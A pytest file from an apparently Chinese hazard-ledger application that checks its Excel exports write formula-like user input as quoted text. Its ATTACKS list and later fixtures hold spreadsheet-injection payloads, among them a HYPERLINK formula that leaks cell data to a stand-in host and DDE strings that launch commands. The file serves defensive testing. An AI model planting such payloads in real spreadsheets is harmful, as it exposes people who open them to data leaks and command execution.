"""Formula injection in exports: text a user typed that starts like a formula is written
as text (never as <f>), with Excel's quote prefix, by the one writer helper every export
uses; read back with openpyxl and checked in the raw sheet XML."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from anjian.core import xlsx
from anjian.hazards import ledger_excel
from anjian.hazards.models import Hazard
from anjian.reports import documents
from tests.hazards.helpers import report

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


@pytest.mark.parametrize("text", ATTACKS)
def test_given_formula_like_text_when_written_to_an_ordinary_workbook_then_text(text):
    wb = Workbook()
    xlsx.append(wb.active, ["位置", text])
    data = xlsx.save(wb)
    assert "<f>" not in sheet_xml(data)
    cell = load_workbook(io.BytesIO(data)).active["B1"]
    assert cell.value == text and cell.data_type == "s" and cell.quotePrefix


@pytest.mark.parametrize("text", ATTACKS)
def test_given_formula_like_text_when_streamed_write_only_then_text(text):
    wb = Workbook(write_only=True)
    sheet = wb.create_sheet("s")
    xlsx.append(sheet, ["位置", text, 3])
    out = io.BytesIO()
    xlsx.save(wb, out)
    assert "<f>" not in sheet_xml(out.getvalue())
    row = next(load_workbook(out).active.iter_rows())
    assert row[1].value == text and row[1].data_type == "s" and row[1].quotePrefix
    assert row[2].value == 3 and row[2].data_type == "n"  # numbers stay numbers


def test_given_an_ordinary_workbook_filled_directly_when_saved_then_neutralised():
    wb = Workbook()
    wb.active["A1"] = "=1+1"  # openpyxl types this as a formula
    assert wb.active["A1"].data_type == "f"
    data = xlsx.save(wb)
    assert "<f>" not in sheet_xml(data)
    assert load_workbook(io.BytesIO(data)).active["A1"].value == "=1+1"


def test_given_plain_and_control_characters_then_kept_and_cleaned():
    assert xlsx.cell(None, "1号储罐区") == "1号储罐区"
    assert xlsx.cell(None, "a\x00b\x1fc") == "abc"  # XML cannot hold them
    assert not xlsx.is_formula_like("储罐 = 1") and not xlsx.is_formula_like(5)


def test_given_a_hazard_located_at_a_hyperlink_formula_when_ledger_exported_then_text(world):
    attack = ATTACKS[0]
    report(world, location=attack, description="=cmd|' /C calc'!A0")
    out = io.BytesIO()
    ledger_excel.export_ledger(Hazard.objects.all(), out)
    assert "<f>" not in sheet_xml(out.getvalue())
    sheet = load_workbook(out)["隐患排查治理台账"]
    headers = [c.value for c in sheet[3]]
    row = dict(zip(headers, sheet[4], strict=True))
    assert row["隐患位置"].value == attack and row["隐患位置"].data_type == "s"
    assert row["隐患描述"].value == "=cmd|' /C calc'!A0" and row["隐患描述"].quotePrefix


def test_given_a_statement_whose_analysis_is_a_formula_when_downloaded_then_text(world):
    from django.utils import timezone

    from anjian.core.audit import Actor
    from anjian.reports import services
    from anjian.reports.periods import Period

    statement = services.hazard_statement_prepare(
        actor=Actor.for_user(world.user("safety_a"), "web"),
        enterprise_id=world.chem_a.pk,
        period=Period(timezone.localdate().year - 2, 1),
        analysis='=HYPERLINK("http://evil.example","整改完成")',
    )
    data = documents.statement_xlsx(statement)
    assert "<f>" not in sheet_xml(data)
    texts = [
        c
        for row in load_workbook(io.BytesIO(data)).active.iter_rows()
        for c in row
        if c.value == '=HYPERLINK("http://evil.example","整改完成")'
    ]
    assert texts and all(c.data_type == "s" and c.quotePrefix for c in texts)
